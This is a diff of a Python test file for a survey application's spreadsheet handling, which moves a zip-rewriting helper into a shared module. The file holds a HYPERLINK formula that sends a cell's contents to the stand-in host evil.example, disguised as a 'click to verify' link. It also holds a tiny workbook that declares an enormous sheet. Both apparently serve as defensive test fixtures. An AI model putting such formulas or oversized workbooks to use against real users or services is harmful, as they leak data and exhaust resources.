@@ -11,7 +11,6 @@ import re
 import subprocess
 import sys
 import tomllib
-import zipfile
 
 import pytest
 from openpyxl import Workbook, load_workbook
@@ -20,7 +19,7 @@ from survey import db as store
 from survey import questionnaires, spreadsheets
 from survey.access.actor import SYSTEM
 from survey.companies import registry, transfer
-from tests.helpers import ROOT, actor_for
+from tests.helpers import ROOT, actor_for, rewrite_sheet
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2, "点此核验")'
 
@@ -32,18 +31,6 @@ def xlsx(cells: dict[str, str]) -> bytes:
     buffer = io.BytesIO()
     workbook.save(buffer)
     return buffer.getvalue()
-
-
-def rewrite_sheet(data: bytes, change) -> bytes:
-    """The same workbook with sheet1's XML passed through `change`."""
-    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
-    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
-        for info in source.infolist():
-            content = source.read(info)
-            if info.filename == "xl/worksheets/sheet1.xml":
-                content = change(content)
-            target.writestr(info, content)
-    return out.getvalue()
 
 
 BOMB = xlsx({"A1": "企业名称", "XFD1048576": "x"})  # 1.6 KB, declares 1,048,576 x 16,384
